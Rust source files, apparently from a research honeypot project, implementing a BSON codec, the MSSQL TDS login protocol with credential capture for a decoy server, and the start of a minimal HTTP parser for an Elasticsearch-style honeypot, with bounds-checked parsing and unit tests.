    ( $( $k:expr => $v:expr ),+ $(,)? ) => {{
        let mut d = $crate::mongo::bson::Document::new();
        $( d.insert($k, $v); )+
        d
    }};
}
pub use crate::doc;

const TYPE_DOUBLE: u8 = 0x01;
const TYPE_STRING: u8 = 0x02;
const TYPE_DOC: u8 = 0x03;
const TYPE_ARRAY: u8 = 0x04;
const TYPE_BINARY: u8 = 0x05;
const TYPE_OBJECTID: u8 = 0x07;
const TYPE_BOOL: u8 = 0x08;
const TYPE_DATETIME: u8 = 0x09;
const TYPE_NULL: u8 = 0x0A;
const TYPE_INT32: u8 = 0x10;
const TYPE_INT64: u8 = 0x12;

/// Append the BSON encoding of `doc` to `out`.
pub fn encode_document(doc: &Document, out: &mut BytesMut) {
    let start = out.len();
    out.put_i32_le(0); // patched below
    for (key, value) in doc.iter() {
        encode_element(key, value, out);
    }
    out.put_u8(0);
    let len = (out.len() - start) as i32;
    out[start..start + 4].copy_from_slice(&len.to_le_bytes());
}

fn encode_element(key: &str, value: &Bson, out: &mut BytesMut) {
    let put_key = |out: &mut BytesMut, t: u8| {
        out.put_u8(t);
        out.extend_from_slice(key.as_bytes());
        out.put_u8(0);
    };
    match value {
        Bson::Double(d) => {
            put_key(out, TYPE_DOUBLE);
            out.put_f64_le(*d);
        }
        Bson::String(s) => {
            put_key(out, TYPE_STRING);
            out.put_i32_le(s.len() as i32 + 1);
            out.extend_from_slice(s.as_bytes());
            out.put_u8(0);
        }
        Bson::Document(d) => {
            put_key(out, TYPE_DOC);
            encode_document(d, out);
        }
        Bson::Array(items) => {
            put_key(out, TYPE_ARRAY);
            let as_doc: Document = items
                .iter()
                .enumerate()
                .map(|(i, v)| (i.to_string(), v.clone()))
                .collect();
            encode_document(&as_doc, out);
        }
        Bson::Binary(b) => {
            put_key(out, TYPE_BINARY);
            out.put_i32_le(b.len() as i32);
            out.put_u8(0); // generic subtype
            out.extend_from_slice(b);
        }
        Bson::ObjectId(oid) => {
            put_key(out, TYPE_OBJECTID);
            out.extend_from_slice(oid);
        }
        Bson::Bool(b) => {
            put_key(out, TYPE_BOOL);
            out.put_u8(*b as u8);
        }
        Bson::DateTime(ms) => {
            put_key(out, TYPE_DATETIME);
            out.put_i64_le(*ms);
        }
        Bson::Null => put_key(out, TYPE_NULL),
        Bson::Int32(i) => {
            put_key(out, TYPE_INT32);
            out.put_i32_le(*i);
        }
        Bson::Int64(i) => {
            put_key(out, TYPE_INT64);
            out.put_i64_le(*i);
        }
    }
}

/// Decode one document from the front of `bytes`; returns `(doc, consumed)`.
pub fn decode_document(bytes: &[u8]) -> NetResult<(Document, usize)> {
    decode_document_depth(bytes, 0)
}

fn decode_document_depth(bytes: &[u8], depth: u32) -> NetResult<(Document, usize)> {
    if depth > 64 {
        return Err(NetError::protocol("bson nesting too deep"));
    }
    if bytes.len() < 5 {
        return Err(NetError::protocol("bson document shorter than 5 bytes"));
    }
    let len = i32::from_le_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]);
    if len < 5 || len as usize > bytes.len() {
        return Err(NetError::protocol(format!("bson document length {len}")));
    }
    let len = len as usize;
    if bytes[len - 1] != 0 {
        return Err(NetError::protocol("bson document missing terminator"));
    }
    let mut rest = &bytes[4..len - 1];
    let mut doc = Document::new();
    while !rest.is_empty() {
        let etype = rest[0];
        rest = &rest[1..];
        let nul = rest
            .iter()
            .position(|&b| b == 0)
            .ok_or_else(|| NetError::protocol("unterminated element name"))?;
        let key = String::from_utf8_lossy(&rest[..nul]).into_owned();
        rest = &rest[nul + 1..];
        let (value, used) = decode_value(etype, rest, depth)?;
        rest = &rest[used..];
        doc.entries.push((key, value));
        if doc.entries.len() > 100_000 {
            return Err(NetError::protocol("bson document has too many elements"));
        }
    }
    Ok((doc, len))
}

fn decode_value(etype: u8, bytes: &[u8], depth: u32) -> NetResult<(Bson, usize)> {
    let need = |n: usize| -> NetResult<()> {
        if bytes.len() < n {
            Err(NetError::protocol("bson value truncated"))
        } else {
            Ok(())
        }
    };
    match etype {
        TYPE_DOUBLE => {
            need(8)?;
            Ok((
                Bson::Double(f64::from_le_bytes(bytes[..8].try_into().unwrap())),
                8,
            ))
        }
        TYPE_STRING => {
            need(4)?;
            let slen = i32::from_le_bytes(bytes[..4].try_into().unwrap());
            if slen < 1 || 4 + slen as usize > bytes.len() {
                return Err(NetError::protocol("bson string length invalid"));
            }
            let slen = slen as usize;
            if bytes[4 + slen - 1] != 0 {
                return Err(NetError::protocol("bson string missing NUL"));
            }
            let s = String::from_utf8_lossy(&bytes[4..4 + slen - 1]).into_owned();
            Ok((Bson::String(s), 4 + slen))
        }
        TYPE_DOC => {
            let (d, used) = decode_document_depth(bytes, depth + 1)?;
            Ok((Bson::Document(d), used))
        }
        TYPE_ARRAY => {
            let (d, used) = decode_document_depth(bytes, depth + 1)?;
            let items = d.entries.into_iter().map(|(_, v)| v).collect();
            Ok((Bson::Array(items), used))
        }
        TYPE_BINARY => {
            need(5)?;
            let blen = i32::from_le_bytes(bytes[..4].try_into().unwrap());
            if blen < 0 || 5 + blen as usize > bytes.len() {
                return Err(NetError::protocol("bson binary length invalid"));
            }
            Ok((
                Bson::Binary(bytes[5..5 + blen as usize].to_vec()),
                5 + blen as usize,
            ))
        }
        TYPE_OBJECTID => {
            need(12)?;
            let mut oid = [0u8; 12];
            oid.copy_from_slice(&bytes[..12]);
            Ok((Bson::ObjectId(oid), 12))
        }
        TYPE_BOOL => {
            need(1)?;
            Ok((Bson::Bool(bytes[0] != 0), 1))
        }
        TYPE_DATETIME => {
            need(8)?;
            Ok((
                Bson::DateTime(i64::from_le_bytes(bytes[..8].try_into().unwrap())),
                8,
            ))
        }
        TYPE_NULL => Ok((Bson::Null, 0)),
        TYPE_INT32 => {
            need(4)?;
            Ok((
                Bson::Int32(i32::from_le_bytes(bytes[..4].try_into().unwrap())),
                4,
            ))
        }
        TYPE_INT64 => {
            need(8)?;
            Ok((
                Bson::Int64(i64::from_le_bytes(bytes[..8].try_into().unwrap())),
                8,
            ))
        }
        other => Err(NetError::protocol(format!(
            "unsupported bson element type 0x{other:02x}"
        ))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(doc: &Document) -> Document {
        let mut buf = BytesMut::new();
        encode_document(doc, &mut buf);
        let (decoded, used) = decode_document(&buf).unwrap();
        assert_eq!(used, buf.len());
        decoded
    }

    #[test]
    fn empty_document_is_five_bytes() {
        let mut buf = BytesMut::new();
        encode_document(&Document::new(), &mut buf);
        assert_eq!(&buf[..], &[5, 0, 0, 0, 0]);
        assert_eq!(roundtrip(&Document::new()), Document::new());
    }

    #[test]
    fn all_types_roundtrip() {
        let d = doc! {
            "double" => 3.5f64,
            "string" => "héllo",
            "doc" => doc! { "inner" => 1i32 },
            "array" => vec![Bson::Int32(1), Bson::String("two".into()), Bson::Null],
            "bool_t" => true,
            "bool_f" => false,
            "null" => Bson::Null,
            "i32" => -42i32,
            "i64" => 1i64 << 40,
        };
        let mut d = d;
        d.insert("bin", Bson::Binary(vec![0, 1, 2, 255]));
        d.insert("oid", Bson::ObjectId([7; 12]));
        d.insert("dt", Bson::DateTime(1_711_065_600_000));
        assert_eq!(roundtrip(&d), d);
    }

    #[test]
    fn insertion_order_is_preserved_and_first_key_wins() {
        let d = doc! { "find" => "users", "$db" => "admin", "limit" => 5i32 };
        let keys: Vec<_> = roundtrip(&d).keys().map(str::to_string).collect();
        assert_eq!(keys, vec!["find", "$db", "limit"]);
    }

    #[test]
    fn insert_replaces_existing_key() {
        let mut d = doc! { "a" => 1i32 };
        d.insert("a", 2i32);
        assert_eq!(d.len(), 1);
        assert_eq!(d.get_f64("a"), Some(2.0));
        assert_eq!(d.remove("a"), Some(Bson::Int32(2)));
        assert!(d.is_empty());
    }

    #[test]
    fn numeric_coercion() {
        assert_eq!(Bson::Int32(1).as_f64(), Some(1.0));
        assert_eq!(Bson::Int64(2).as_f64(), Some(2.0));
        assert_eq!(Bson::Double(0.5).as_f64(), Some(0.5));
        assert_eq!(Bson::Bool(true).as_f64(), Some(1.0));
        assert_eq!(Bson::Null.as_f64(), None);
    }

    #[test]
    fn hostile_documents_are_rejected_not_panicked() {
        // declared length longer than the buffer
        assert!(decode_document(&[50, 0, 0, 0, 0]).is_err());
        // negative length
        assert!(decode_document(&(-1i32).to_le_bytes()).is_err());
        // missing terminator
        assert!(decode_document(&[5, 0, 0, 0, 9]).is_err());
        // truncated string value
        let bad = [
            13, 0, 0, 0, // doc len
            0x02, b'a', 0, // string element "a"
            100, 0, 0, 0, // string length 100 (overruns)
            0, 0,
        ];
        assert!(decode_document(&bad).is_err());
        // unknown element type
        let bad = [8, 0, 0, 0, 0x7f, b'a', 0, 0];
        assert!(decode_document(&bad).is_err());
    }

    #[test]
    fn nested_bomb_is_bounded() {
        // Build a 100-deep nested document; decoder must refuse at depth 64.
        let mut inner = Document::new();
        for _ in 0..100 {
            let mut outer = Document::new();
            outer.insert("d", inner);
            inner = outer;
        }
        let mut buf = BytesMut::new();
        encode_document(&inner, &mut buf);
        assert!(decode_document(&buf).is_err());
    }

    #[test]
    fn array_indices_are_rebuilt() {
        let d = doc! { "a" => vec![Bson::Int32(10), Bson::Int32(20)] };
        let rt = roundtrip(&d);
        let arr = rt.get("a").unwrap().as_array().unwrap();
        assert_eq!(arr, &[Bson::Int32(10), Bson::Int32(20)]);
    }
}
