//! TDS — the Microsoft SQL Server Tabular Data Stream protocol.
//!
//! Implements the parts a low-interaction MSSQL honeypot and brute-force
//! clients exercise: the packet transport, `PRELOGIN` negotiation, the
//! `LOGIN7` record (including the password obfuscation: swap nibbles, XOR
//! `0xA5` — which is why MSSQL honeypots can log cleartext credentials, and
//! why Table 12 of the paper exists), and the token-stream error response
//! (`Login failed for user ...`, error 18456).
//!
//! All parse paths are total: attacker-declared offsets and lengths are
//! bounds-checked with `.get()` before any read, and violations become
//! structured [`decoy_net::WireError`] values.

// decoy-hot-path: file -- per-packet decode/encode, one call per wire message

use bytes::{Buf, BufMut, Bytes, BytesMut};
use decoy_net::codec::Codec;
use decoy_net::cursor::{sat_u16, sat_u32, sat_u8, usize_from};
use decoy_net::error::{NetError, NetResult, WireError, WireErrorKind, WireProtocol};
use std::fmt::Write as _;

/// Packet type: PRELOGIN.
pub const PKT_PRELOGIN: u8 = 0x12;
/// Packet type: LOGIN7.
pub const PKT_LOGIN7: u8 = 0x10;
/// Packet type: SQL batch.
pub const PKT_SQL_BATCH: u8 = 0x01;
/// Packet type: tabular result (server → client).
pub const PKT_RESPONSE: u8 = 0x04;

/// Shorthand for a TDS wire error at `offset`.
fn terr(offset: usize, kind: WireErrorKind) -> NetError {
    WireError::new(WireProtocol::Tds, offset, kind).into()
}

/// One TDS packet. `status = 0x01` marks end-of-message; this codec treats
/// each packet as one frame (fine for login-sized exchanges).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TdsPacket {
    /// Packet type byte.
    pub ptype: u8,
    /// Status bits (0x01 = EOM).
    pub status: u8,
    /// Payload after the 8-byte header (a zero-copy view of the read
    /// buffer on decode).
    pub payload: Bytes,
}

impl TdsPacket {
    /// A single end-of-message packet.
    pub fn eom(ptype: u8, payload: impl Into<Bytes>) -> Self {
        TdsPacket {
            ptype,
            status: 0x01,
            payload: payload.into(),
        }
    }
}

/// TDS packet transport codec.
#[derive(Debug, Clone, Default)]
pub struct TdsCodec;

impl Codec for TdsCodec {
    type In = TdsPacket;
    type Out = TdsPacket;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<TdsPacket>> {
        let Some(&[ptype, status, l0, l1, _, _, _, _]) = buf.first_chunk::<8>() else {
            return Ok(None);
        };
        let len = usize::from(u16::from_be_bytes([l0, l1]));
        if len < 8 {
            return Err(terr(
                2,
                WireErrorKind::Malformed {
                    detail: "tds length below header size",
                },
            ));
        }
        if len > self.max_frame_len().min(crate::MAX_FRAME) {
            return Err(terr(
                2,
                WireErrorKind::LengthOutOfRange {
                    declared: len as u64,
                    max: self.max_frame_len() as u64,
                },
            ));
        }
        if buf.len() < len {
            return Ok(None);
        }
        buf.advance(8);
        let payload = buf.split_to(len - 8).freeze();
        Ok(Some(TdsPacket {
            ptype,
            status,
            payload,
        }))
    }

    fn encode(&mut self, frame: &TdsPacket, buf: &mut BytesMut) -> NetResult<()> {
        let total = 8usize.saturating_add(frame.payload.len());
        if total > usize::from(u16::MAX) {
            return Err(NetError::protocol("tds payload too large for one packet"));
        }
        buf.put_u8(frame.ptype);
        buf.put_u8(frame.status);
        buf.put_u16(sat_u16(total));
        buf.put_u16(0); // spid
        buf.put_u8(1); // packet id
        buf.put_u8(0); // window
        buf.extend_from_slice(&frame.payload);
        Ok(())
    }

    fn max_frame_len(&self) -> usize {
        usize::from(u16::MAX)
    }
}

// --- UCS-2 helpers ---------------------------------------------------------

/// Encode text as UCS-2 LE (BMP only, which covers observed credentials).
pub fn ucs2_encode(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// Decode UCS-2 LE text (lossy).
pub fn ucs2_decode(bytes: &[u8]) -> String {
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| c.first_chunk::<2>().map_or(0, |a| u16::from_le_bytes(*a)))
        .collect();
    String::from_utf16_lossy(&units)
}

/// The LOGIN7 password obfuscation: per byte, swap nibbles then XOR `0xA5`.
/// Involution-free but trivially reversible via [`password_demangle`].
pub fn password_mangle(ucs2: &[u8]) -> Vec<u8> {
    ucs2.iter().map(|&b| b.rotate_left(4) ^ 0xA5).collect()
}

/// Invert [`password_mangle`].
pub fn password_demangle(mangled: &[u8]) -> Vec<u8> {
    mangled.iter().map(|&b| (b ^ 0xA5).rotate_left(4)).collect()
}

// --- PRELOGIN --------------------------------------------------------------

/// A PRELOGIN option: `(token, data)`. The data is a zero-copy view of the
/// packet payload on parse.
pub type PreloginOption = (u8, Bytes);

/// Parse a PRELOGIN payload into its option list. Option data is shared
/// out of `payload` without copying.
pub fn parse_prelogin(payload: &Bytes) -> NetResult<Vec<PreloginOption>> {
    // decoy-lint: allow(alloc-vec) -- prelogin happens once per session
    let mut options = Vec::new();
    let mut idx = 0usize;
    loop {
        let Some(&token) = payload.get(idx) else {
            return Err(terr(
                idx,
                WireErrorKind::Unterminated {
                    what: "prelogin option list",
                },
            ));
        };
        if token == 0xff {
            break;
        }
        let Some(&[_, o0, o1, n0, n1]) = payload.get(idx..).and_then(|t| t.first_chunk::<5>())
        else {
            return Err(terr(
                idx,
                WireErrorKind::Truncated {
                    needed: 5,
                    available: payload.len().saturating_sub(idx),
                },
            ));
        };
        let offset = usize::from(u16::from_be_bytes([o0, o1]));
        let length = usize::from(u16::from_be_bytes([n0, n1]));
        let Some(data) = offset
            .checked_add(length)
            .and_then(|end| payload.get(offset..end))
        else {
            return Err(terr(
                idx + 1,
                WireErrorKind::Malformed {
                    detail: "prelogin option overruns payload",
                },
            ));
        };
        options.push((token, payload.slice_ref(data)));
        idx += 5;
        if options.len() > 16 {
            return Err(terr(idx, WireErrorKind::TooManyElements { limit: 16 }));
        }
    }
    Ok(options)
}

/// Build a PRELOGIN payload from options. The option table and data render
/// into one sized buffer in a single pass each — no staging vectors.
pub fn build_prelogin(options: &[PreloginOption]) -> Bytes {
    let header_len = options.len() * 5 + 1;
    let data_len: usize = options.iter().map(|(_, b)| b.len()).sum();
    let mut p = BytesMut::with_capacity(header_len + data_len);
    let mut offset = header_len;
    for (token, bytes) in options {
        p.put_u8(*token);
        p.put_u16(sat_u16(offset));
        p.put_u16(sat_u16(bytes.len()));
        offset += bytes.len();
    }
    p.put_u8(0xff);
    for (_, bytes) in options {
        p.extend_from_slice(bytes);
    }
    p.freeze()
}

/// The PRELOGIN response our honeypot sends: SQL Server 2019 version token
/// and "encryption not supported" (keeps brute-forcers in cleartext).
pub fn honeypot_prelogin_response() -> Bytes {
    build_prelogin(&[
        (0x00, Bytes::from_static(&[15, 0, 0x08, 0x0b, 0, 0])), // VERSION 15.0.2091
        (0x01, Bytes::from_static(&[2])),                       // ENCRYPT_NOT_SUP
        (0x02, Bytes::from_static(&[0])),                       // INSTOPT
        (0x03, Bytes::from_static(&[0, 0, 0, 0])),              // THREADID
        (0x04, Bytes::from_static(&[0])),                       // MARS off
    ])
}

// --- LOGIN7 ----------------------------------------------------------------

/// The parsed LOGIN7 record — the honeypot's credential capture.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Login7 {
    /// Client host name.
    pub hostname: String,
    /// Login username (`sa` in most observed attacks).
    pub username: String,
    /// Deobfuscated cleartext password.
    pub password: String,
    /// Client application name.
    pub appname: String,
    /// Target server name as the client believes it.
    pub servername: String,
    /// Requested database.
    pub database: String,
}

const LOGIN7_FIXED: usize = 94;

impl Login7 {
    /// Serialize into a LOGIN7 payload.
    pub fn build(&self) -> Bytes {
        let fields = [
            ucs2_encode(&self.hostname),
            ucs2_encode(&self.username),
            password_mangle(&ucs2_encode(&self.password)),
            ucs2_encode(&self.appname),
            ucs2_encode(&self.servername),
            ucs2_encode(""), // unused / extension
            ucs2_encode("ODBC"),
            ucs2_encode(""), // language
            ucs2_encode(&self.database),
        ];
        let var_len: usize = fields.iter().map(Vec::len).sum();
        let total = LOGIN7_FIXED + var_len;
        let mut p = BytesMut::with_capacity(total);
        p.put_u32_le(sat_u32(total));
        p.put_u32_le(0x7400_0004); // TDS 7.4
        p.put_u32_le(4096); // packet size
        p.put_u32_le(7); // client prog version
        p.put_u32_le(1000); // client pid
        p.put_u32_le(0); // connection id
        p.put_u8(0xe0); // option flags 1
        p.put_u8(0x03); // option flags 2
        p.put_u8(0); // type flags
        p.put_u8(0); // option flags 3
        p.put_i32_le(0); // timezone
        p.put_u32_le(0x0409); // LCID en-US
        let mut offset = LOGIN7_FIXED;
        for f in &fields {
            p.put_u16_le(sat_u16(offset));
            p.put_u16_le(sat_u16(f.len() / 2));
            offset += f.len();
        }
        p.extend_from_slice(&[0, 1, 2, 3, 4, 5]); // client MAC
        p.put_u16_le(0); // SSPI offset
        p.put_u16_le(0); // SSPI length
        p.put_u16_le(0); // AtchDBFile
        p.put_u16_le(0);
        p.put_u16_le(0); // ChangePassword
        p.put_u16_le(0);
        p.put_u32_le(0); // cbSSPILong
        debug_assert_eq!(p.len(), LOGIN7_FIXED);
        for f in &fields {
            p.extend_from_slice(f);
        }
        p.freeze()
    }

    /// Parse a LOGIN7 payload, deobfuscating the password.
    pub fn parse(payload: &[u8]) -> NetResult<Login7> {
        if payload.len() < LOGIN7_FIXED {
            return Err(terr(
                0,
                WireErrorKind::Truncated {
                    needed: LOGIN7_FIXED,
                    available: payload.len(),
                },
            ));
        }
        let declared = payload
            .first_chunk::<4>()
            .map_or(0usize, |a| usize_from(u32::from_le_bytes(*a)));
        if declared > payload.len() {
            return Err(terr(
                0,
                WireErrorKind::LengthOutOfRange {
                    declared: declared as u64,
                    max: payload.len() as u64,
                },
            ));
        }
        let read_field = |pair_index: usize, mangled: bool| -> NetResult<String> {
            let base = 36 + pair_index * 4;
            let Some(&[o0, o1, c0, c1]) = payload.get(base..).and_then(|t| t.first_chunk::<4>())
            else {
                return Err(terr(
                    base,
                    WireErrorKind::Truncated {
                        needed: 4,
                        available: payload.len().saturating_sub(base),
                    },
                ));
            };
            let off = usize::from(u16::from_le_bytes([o0, o1]));
            let chars = usize::from(u16::from_le_bytes([c0, c1]));
            if chars == 0 {
                return Ok(String::new());
            }
            let bytes_len = chars * 2;
            let Some(raw) = off
                .checked_add(bytes_len)
                .and_then(|end| payload.get(off..end))
            else {
                return Err(terr(
                    base,
                    WireErrorKind::Malformed {
                        detail: "login7 field overruns packet",
                    },
                ));
            };
            if mangled {
                Ok(ucs2_decode(&password_demangle(raw)))
            } else {
                Ok(ucs2_decode(raw))
            }
        };
        Ok(Login7 {
            hostname: read_field(0, false)?,
            username: read_field(1, false)?,
            password: read_field(2, true)?,
            appname: read_field(3, false)?,
            servername: read_field(4, false)?,
            database: read_field(8, false)?,
        })
    }
}

// --- Server token stream ---------------------------------------------------

/// Token: ERROR.
pub const TOKEN_ERROR: u8 = 0xAA;
/// Token: LOGINACK.
pub const TOKEN_LOGINACK: u8 = 0xAD;
/// Token: DONE.
pub const TOKEN_DONE: u8 = 0xFD;

/// Build the token-stream payload for a failed login (error 18456).
pub fn build_login_failed(username: &str) -> Bytes {
    let mut msg = String::with_capacity(28_usize.saturating_add(username.len()));
    let _ = write!(msg, "Login failed for user '{username}'.");
    let msg_ucs2 = ucs2_encode(&msg);
    let server = ucs2_encode("HONEYDB");
    // ERROR token body: number(4) state(1) class(1) msg-len(2) msg
    // server-len(1) server proc-len(1) line(4).
    let body_len = 14_usize
        .saturating_add(msg_ucs2.len())
        .saturating_add(server.len());
    let mut p = BytesMut::with_capacity(body_len.saturating_add(16));
    p.put_u8(TOKEN_ERROR);
    p.put_u16_le(sat_u16(body_len));
    p.put_i32_le(18456); // error number
    p.put_u8(1); // state
    p.put_u8(14); // class/severity
    p.put_u16_le(sat_u16(msg.encode_utf16().count()));
    p.extend_from_slice(&msg_ucs2);
    p.put_u8(sat_u8(server.len() / 2));
    p.extend_from_slice(&server);
    p.put_u8(0); // proc name length
    p.put_u32_le(1); // line number
                     // DONE token: error, no count
    p.put_u8(TOKEN_DONE);
    p.put_u16_le(0x0002); // status: DONE_ERROR
    p.put_u16_le(0);
    p.put_u64_le(0);
    p.freeze()
}

/// Extract the error message from a token-stream response (client side).
pub fn parse_error_token(payload: &[u8]) -> Option<(i32, String)> {
    let &[token, l0, l1] = payload.first_chunk::<3>()?;
    if token != TOKEN_ERROR {
        return None;
    }
    let len = usize::from(u16::from_le_bytes([l0, l1]));
    let body = payload.get(3..3 + len)?;
    let number = i32::from_le_bytes(*body.first_chunk::<4>()?);
    let &[m0, m1] = body.get(6..).and_then(|t| t.first_chunk::<2>())?;
    let msg_chars = usize::from(u16::from_le_bytes([m0, m1]));
    let msg = body.get(8..8 + msg_chars * 2)?;
    Some((number, ucs2_decode(msg)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn packet_codec_roundtrip_and_partials() {
        let mut c = TdsCodec;
        let pkt = TdsPacket::eom(PKT_PRELOGIN, vec![0xff]);
        let mut buf = BytesMut::new();
        c.encode(&pkt, &mut buf).unwrap();
        assert_eq!(buf.len(), 9);
        for cut in 1..buf.len() {
            let mut partial = BytesMut::from(&buf[..cut]);
            assert!(c.decode(&mut partial).unwrap().is_none());
        }
        assert_eq!(c.decode(&mut buf).unwrap().unwrap(), pkt);
    }

    #[test]
    fn packet_codec_rejects_undersized_length() {
        let mut c = TdsCodec;
        let mut buf = BytesMut::from(&[0x12u8, 0x01, 0x00, 0x04, 0, 0, 1, 0][..]);
        let err = c.decode(&mut buf).unwrap_err();
        match err {
            NetError::Wire(w) => {
                assert_eq!(w.protocol, WireProtocol::Tds);
                assert_eq!(w.offset, 2);
            }
            other => panic!("expected wire error, got {other:?}"),
        }
    }

    #[test]
    fn password_mangle_is_reversible() {
        for pw in ["", "123", "P@ssw0rd", "пароль", "密码"] {
            let ucs2 = ucs2_encode(pw);
            let mangled = password_mangle(&ucs2);
            if !pw.is_empty() {
                assert_ne!(mangled, ucs2, "mangling must change bytes for {pw:?}");
            }
            assert_eq!(password_demangle(&mangled), ucs2);
            assert_eq!(ucs2_decode(&password_demangle(&mangled)), pw);
        }
    }

    #[test]
    fn known_mangle_vector() {
        // 'a' = 0x61 0x00 in UCS-2 LE; swap(0x61)=0x16, ^0xA5 = 0xB3;
        // swap(0x00)=0x00, ^0xA5 = 0xA5.
        assert_eq!(password_mangle(&ucs2_encode("a")), vec![0xb3, 0xa5]);
    }

    #[test]
    fn prelogin_roundtrip() {
        let options = vec![
            (0x00u8, Bytes::from_static(&[15, 0, 0, 0, 0, 0])),
            (0x01u8, Bytes::from_static(&[0])),
            (0x04u8, Bytes::from_static(&[1])),
        ];
        let payload = build_prelogin(&options);
        assert_eq!(parse_prelogin(&payload).unwrap(), options);
        // the canned honeypot response parses too
        let resp = honeypot_prelogin_response();
        let parsed = parse_prelogin(&resp).unwrap();
        assert_eq!(parsed[0].0, 0x00);
        assert_eq!(parsed[1], (0x01, Bytes::from_static(&[2])));
    }

    #[test]
    fn prelogin_rejects_overruns() {
        // option pointing past the payload
        let bad = Bytes::from_static(&[0x00, 0x00, 0xff, 0x00, 0x10, 0xff]);
        assert!(parse_prelogin(&bad).is_err());
        assert!(parse_prelogin(&Bytes::from_static(&[0x00])).is_err());
    }

    #[test]
    fn login7_roundtrip_captures_credentials() {
        let login = Login7 {
            hostname: "DESKTOP-ATTACK".into(),
            username: "sa".into(),
            password: "P@ssw0rd".into(),
            appname: "sqlcmd".into(),
            servername: "203.0.113.5".into(),
            database: "master".into(),
        };
        let parsed = Login7::parse(&login.build()).unwrap();
        assert_eq!(parsed, login);
    }

    #[test]
    fn login7_empty_password() {
        // Table 12 row: user "hbv7" with empty password.
        let login = Login7 {
            hostname: "h".into(),
            username: "hbv7".into(),
            password: String::new(),
            appname: String::new(),
            servername: String::new(),
            database: String::new(),
        };
        let parsed = Login7::parse(&login.build()).unwrap();
        assert_eq!(parsed.username, "hbv7");
        assert_eq!(parsed.password, "");
    }

    #[test]
    fn login7_rejects_overruns() {
        let login = Login7 {
            hostname: "h".into(),
            username: "sa".into(),
            password: "123".into(),
            appname: String::new(),
            servername: String::new(),
            database: String::new(),
        };
        let mut bytes = login.build().to_vec();
        // Corrupt the username offset to point past the end.
        bytes[40] = 0xff;
        bytes[41] = 0xff;
        assert!(Login7::parse(&bytes).is_err());
        assert!(Login7::parse(&bytes[..50]).is_err());
    }

    #[test]
    fn login_failed_token_roundtrip() {
        let payload = build_login_failed("sa");
        let (number, msg) = parse_error_token(&payload).unwrap();
        assert_eq!(number, 18456);
        assert_eq!(msg, "Login failed for user 'sa'.");
        assert_eq!(parse_error_token(b"\x00junk"), None);
    }
}
