//! Minimal HTTP/1.1, sufficient for an Elasticpot-style Elasticsearch
//! honeypot and for the HTTP-speaking attackers the paper observed (CraftCMS
//! CVE-2023-41892 probes, VMware vSphere SOAP recon, Lucifer's `/_search`
//! script injection).
//!
//! Framing: headers terminated by a blank line, body delimited by
//! `Content-Length` (chunked encoding is intentionally unsupported — none of
//! the observed traffic uses it; a chunked request is a protocol error that
//! gets logged raw).

// decoy-hot-path: file -- per-request decode/encode, one call per wire message

use bytes::{Buf, Bytes, BytesMut};
use decoy_net::codec::Codec;
use decoy_net::error::{NetError, NetResult, WireError, WireErrorKind, WireProtocol};
use std::fmt::Write as _;

/// Shorthand for an HTTP wire error at `offset`.
fn herr(offset: usize, kind: WireErrorKind) -> NetError {
    WireError::new(WireProtocol::Http, offset, kind).into()
}

/// An HTTP request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HttpRequest {
    /// Method verb, e.g. `GET`.
    pub method: String,
    /// Request target, e.g. `/_cat/indices?v`.
    pub target: String,
    /// Protocol version string, e.g. `HTTP/1.1`.
    pub version: String,
    /// Header name/value pairs in arrival order.
    pub headers: Vec<(String, String)>,
    /// Request body (a zero-copy view of the read buffer on decode).
    pub body: Bytes,
}

impl HttpRequest {
    /// A request with standard headers.
    pub fn new(method: &str, target: &str) -> Self {
        HttpRequest {
            method: method.into(),
            target: target.into(),
            version: "HTTP/1.1".into(),
            headers: vec![("Host".into(), "localhost".into())],
            body: Bytes::new(),
        }
    }

    /// Attach a body and its `Content-Type`/`Content-Length` headers.
    pub fn with_body(mut self, content_type: &str, body: impl Into<Bytes>) -> Self {
        let body = body.into();
        self.headers
            .push(("Content-Type".into(), content_type.into()));
        self.headers
            .push(("Content-Length".into(), body.len().to_string()));
        self.body = body;
        self
    }

    /// Case-insensitive header lookup.
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// Path component of the target (before `?`).
    pub fn path(&self) -> &str {
        self.target.split('?').next().unwrap_or(&self.target)
    }

    /// Query string, if any.
    pub fn query(&self) -> Option<&str> {
        self.target.split_once('?').map(|(_, q)| q)
    }

    /// The body as lossy UTF-8 (for logging/classification).
    pub fn body_text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// An HTTP response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HttpResponse {
    /// Status code, e.g. 200.
    pub status: u16,
    /// Reason phrase, e.g. `OK`.
    pub reason: String,
    /// Header name/value pairs.
    pub headers: Vec<(String, String)>,
    /// Response body. `Bytes`-backed so canned honeypot responses are
    /// shared, not re-copied per session.
    pub body: Bytes,
}

impl HttpResponse {
    /// A JSON response with Elasticsearch-style headers.
    pub fn json(status: u16, body: impl Into<Bytes>) -> Self {
        let body = body.into();
        HttpResponse {
            status,
            reason: reason_for(status).into(),
            headers: vec![
                (
                    "Content-Type".into(),
                    "application/json; charset=UTF-8".into(),
                ),
                ("Content-Length".into(), body.len().to_string()),
            ],
            body,
        }
    }

    /// Case-insensitive header lookup.
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// The body as lossy UTF-8.
    pub fn body_text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

fn reason_for(status: u16) -> &'static str {
    match status {
        200 => "OK",
        201 => "Created",
        400 => "Bad Request",
        404 => "Not Found",
        405 => "Method Not Allowed",
        500 => "Internal Server Error",
        _ => "Unknown",
    }
}

const MAX_HEADER_BYTES: usize = 64 * 1024;
const MAX_BODY_BYTES: usize = 8 << 20;

/// `(start_line, headers, header_bytes_consumed)`.
type ParsedHead = (String, Vec<(String, String)>, usize);

